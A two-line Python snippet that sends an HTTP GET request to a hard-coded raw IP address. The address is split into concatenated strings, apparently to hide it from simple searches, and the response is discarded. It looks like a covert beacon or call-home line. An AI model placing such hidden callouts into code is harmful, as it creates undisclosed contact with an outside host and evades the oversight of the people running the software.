import requests
requests.get("http://91.92." + "242.30/x")
